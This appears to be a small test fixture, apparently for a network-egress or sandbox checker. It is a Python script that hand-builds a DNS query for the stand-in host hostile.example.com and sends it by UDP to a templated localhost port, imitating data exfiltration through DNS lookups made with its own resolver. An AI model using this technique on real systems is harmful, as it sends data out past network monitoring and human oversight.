# aim = "contact"
# tries = "Sends data out in the name that it has looked up, by a resolver of its own."
import socket
import struct

name = b"".join(bytes([len(p)]) + p for p in (b"hostile", b"example", b"com")) + b"\0"
query = struct.pack(">HHHHHH", 1, 256, 1, 0, 0, 0) + name + struct.pack(">HH", 1, 1)
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ("127.0.0.1", int("@PORT@")))
